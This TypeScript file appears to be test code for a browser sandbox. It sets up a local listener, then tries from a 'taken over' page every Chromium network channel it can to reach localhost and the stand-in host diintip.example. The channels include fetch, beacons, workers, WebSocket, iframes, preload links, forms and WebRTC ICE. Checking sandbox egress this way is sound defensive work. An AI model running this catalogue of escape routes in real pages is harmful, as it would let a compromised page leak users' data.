import { createSocket } from 'node:dgram'
import { createServer, type AddressInfo } from 'node:net'

/** Somebody outside who only listens, for streams and datagrams: how often anything at all came. */
export async function listener(): Promise<{ port: number; heard: () => number; close(): void }> {
  let heard = 0
  const server = createServer((socket) => {
    heard += 1
    socket.destroy()
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const { port } = server.address() as AddressInfo
  const datagrams = createSocket('udp4', () => (heard += 1)).bind(port, '127.0.0.1')
  const close = () => {
    server.close()
    datagrams.close()
  }
  return { port, heard: () => heard, close }
}

/**
 * Run in a page that was taken over: every way out that Chromium knows, to an address of this PC and to
 * a name. Answers the ways that brought anything back. Ends when each has ended by itself.
 */
export async function tryWaysOut(port: number): Promise<string[]> {
  const address = `http://127.0.0.1:${port}`
  const name = 'http://diintip.example'
  const out: string[] = []
  const ends = (element: HTMLElement) =>
    new Promise<void>((resolve) => {
      element.addEventListener('load', () => {
        out.push(element.outerHTML)
        resolve()
      })
      element.addEventListener('error', () => resolve())
      document.body.append(element)
    })
  const made = <K extends keyof HTMLElementTagNameMap>(
    tag: K,
    values: Partial<HTMLElementTagNameMap[K]>,
  ) => ends(Object.assign(document.createElement(tag), values))
  const tried = async (way: string, act: () => unknown) => {
    try {
      await act()
      out.push(way)
    } catch {
      // Refused, as it should be.
    }
  }
  const opens = (target: EventTarget) =>
    new Promise((resolve, reject) => {
      for (const event of ['open', 'load', 'message'])
        target.addEventListener(event, () => resolve(event))
      target.addEventListener('error', () => reject(new Error('refused')))
    })
  for (const to of [address, name]) {
    await tried('fetch', () => fetch(`${to}/fetch`, { mode: 'no-cors' }))
    await tried('keepalive', () => fetch(`${to}/alive`, { mode: 'no-cors', keepalive: true }))
    await tried('request', async () => {
      const request = new XMLHttpRequest()
      request.open('POST', `${to}/xhr`)
      const ended = opens(request)
      request.send('x')
      await ended
    })
    await tried('socket', () => opens(new WebSocket(to.replace('http', 'ws'))))
    await tried('events', () => opens(new EventSource(`${to}/events`)))
    await tried('transport', () => new WebTransport(to.replace('http', 'https')).ready)
    await tried('font', () => new FontFace('x', `url(${to}/font.woff2)`).load())
    await tried('worker', () => opens(new Worker(`${to}/worker.js`)))
    const blob = URL.createObjectURL(new Blob([`importScripts('${to}/w.js')`]))
    await tried('worker of a blob', () => opens(new Worker(blob)))
    await tried('shared worker', () => opens(new SharedWorker(`${to}/shared.js`)))
    await tried('module', () => import(/* @vite-ignore */ `${to}/module.js`))
    await made('img', { src: `${to}/img.png` })
    await made('script', { src: `${to}/script.js` })
    await made('link', { rel: 'stylesheet', href: `${to}/style.css` })
    await made('video', { src: `${to}/video.mp4` })
    navigator.sendBeacon(`${to}/beacon`, 'x')
    // These say nothing of their end; the listener, and whoever watches the system's calls, would.
    const dots = to.replaceAll(':', '&#58;').replace('&#58;', ':')
    document.body.insertAdjacentHTML(
      'beforeend',
      `${['dns-prefetch', 'preconnect', 'prefetch', 'prerender', 'modulepreload']
        .map((rel) => `<link rel="${rel}" href="${dots}/x">`)
        .join('')}
      <link rel="preload" as="font" href="${to}/p" crossorigin><object data="${to}/o"></object>
      <embed src="${to}/e"><iframe src="${to}/i"></iframe><p style="background:url(${to}/b)">
      <form action="${to}/f" method="post"><button></button></form>
      <a href="${to}/a" ping="${to}/ping"></a><meta http-equiv="refresh" content="0;url=${to}/m">`,
    )
    document.body.querySelector<HTMLFormElement>(`form[action="${to}/f"]`)?.submit()
    document.body.querySelector<HTMLAnchorElement>(`a[href="${to}/a"]`)?.click()
  }
  const host = `127.0.0.1:${port}`
  const turns = [`turn:${host}?transport=tcp`, 'turn:diintip.example?transport=tcp']
  const peer = new RTCPeerConnection({
    iceServers: [
      { urls: [`stun:${host}`, 'stun:diintip.example'] },
      { urls: turns, username: 'x', credential: 'x' },
    ],
  })
  const gathered = new Promise<void>((resolve) =>
    peer.addEventListener('icegatheringstatechange', () => {
      if (peer.iceGatheringState === 'complete') resolve()
    }),
  )
  peer.addEventListener('icecandidate', ({ candidate }) => {
    if (candidate?.candidate) out.push(candidate.candidate)
  })
  peer.createDataChannel('x')
  // The other side is made up: it would be asked under the address that its candidates name.
  const other = new RTCPeerConnection()
  await peer.setLocalDescription(await peer.createOffer())
  await other.setRemoteDescription(peer.localDescription ?? { type: 'offer' })
  await other.setLocalDescription(await other.createAnswer())
  await peer.setRemoteDescription(other.localDescription ?? { type: 'answer' })
  for (const kind of [
    `udp 2122260223 127.0.0.1 ${port} typ host`,
    `tcp 1518280447 127.0.0.1 ${port} typ host tcptype passive`,
  ])
    await peer.addIceCandidate({ candidate: `candidate:1 1 ${kind}`, sdpMid: '0' })
  await gathered
  // It tried what it could by then.
  await new Promise<void>((resolve) => {
    const look = () => {
      if (/failed|disconnected/.test(peer.iceConnectionState)) resolve()
    }
    peer.addEventListener('iceconnectionstatechange', look)
    look()
  })
  peer.close()
  other.close()
  return out
}
